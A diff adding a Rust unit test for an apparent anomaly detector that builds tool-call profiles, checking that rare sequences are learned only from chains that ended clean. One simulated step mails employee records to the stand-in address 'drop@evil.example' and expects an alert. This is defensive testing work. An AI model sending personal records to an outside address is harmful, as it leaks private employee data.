@@ -281,6 +281,36 @@ fn an_enforced_profile_learns_only_from_ordinary_or_approved_calls() {
 const WARM: usize = profile::WARM_AFTER_CHAINS as usize;
 
 #[test]
+fn a_new_habit_is_learned_from_chains_that_ended_clean_and_a_drifting_chain_teaches_nothing() {
+    let b = Behaviour::new(settings());
+    let chain = |i: usize| -> &'static str { Box::leak(format!("chain-{i}").into_boxed_str()) };
+    for i in 0..WARM {
+        run(&b, &Call { chain: chain(i), ..read_employee() });
+    }
+    // Reading a second record right after the first: never seen, a rare sequence, in three chains.
+    let second = |c: &'static str, now: i64| {
+        run(&b, &Call { chain: c, ..read_employee().at(now) });
+        run(&b, &Call { chain: c, ..read_employee().on("hr://employees/e-2").at(now) })
+    };
+    for i in 0..3 {
+        assert_eq!(second(chain(100 + i), 1_000).signals, ["rare_sequence"], "chain {i}");
+    }
+    // A fourth chain does it too, and then drifts: an alert; its step must not count.
+    let drifting = chain(300);
+    second(drifting, 1_000);
+    let (risk, _) = b.assess(&Call { chain: drifting, ..mail().to("drop@evil.example") }.shape());
+    assert!(!b.alerts(drifting, &risk).is_empty());
+    // While the chains live, nothing is learned; once they have ended (and the margin), it is.
+    assert_eq!(second(chain(200), 2_000).signals, ["rare_sequence"], "not yet: the chains have not ended");
+    let later = 10_000 + crate::expiry::KEEP_AFTER_EXPIRY_SECS + crate::expiry::PRUNE_EVERY_SECS + 1;
+    run(&b, &Call { chain: chain(400), ..read_employee().at(later) });
+    let t = b.profile("hr.onboarding").transitions;
+    let learned = t.iter().find(|t| t.from == "hr/read_employee" && t.to == "hr/read_employee");
+    assert_eq!(learned.map(|t| t.count), Some(profile::CANDIDATE_PROMOTED_AFTER), "{t:?}");
+    assert_eq!(second(chain(500), later).signals, Vec::<String>::new(), "now ordinary");
+}
+
+#[test]
 fn alerts_come_once_per_chain_and_signal() {
     let b = Behaviour::new(settings());
     run(&b, &read_employee());
